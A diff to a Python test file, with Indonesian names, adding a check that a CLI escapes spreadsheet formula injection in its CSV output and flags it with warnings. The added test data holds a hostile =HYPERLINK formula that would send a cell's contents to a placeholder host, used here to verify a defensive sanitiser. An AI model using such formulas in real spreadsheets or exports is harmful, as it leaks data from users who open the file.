@@ -361,6 +361,15 @@ def test_bad_input(case: str, cli, tmp_path: Path) -> None:
             ).scalar()
         engine.dispose()
         assert value == pytest.approx(entry["nilai"])
+    if spec.get("rumus_aman"):
+        nama = '=HYPERLINK("http://contoh.test/?"&A1,"klik")'
+        hasil = pd.read_csv(year_dir / "hasil_penilaian.csv", dtype=str, keep_default_na=False)
+        assert "'" + nama in set(hasil["nama"]) and nama not in set(hasil["nama"])
+        assert set(karantina.loc[karantina["kolom"] == "jenis", "nilai"]) == {"'=1+1"}
+        text = (year_dir / "hasil_penilaian.csv").read_text(encoding="utf-8")
+        assert '"\'=HYPERLINK(""http://contoh.test/?""&A1,""klik"")"' in text
+        kinds = {(p["kode_aturan"], p["kolom"], int(p["baris"])) for _, p in peringatan.iterrows()}
+        assert kinds == {("TEKS_RUMUS", "nama", 4), ("TEKS_RUMUS", "jabatan", 5)}
     if spec.get("html_aman"):
         pages = sorted(year_dir.rglob("*.html"))
         assert len(pages) > 2
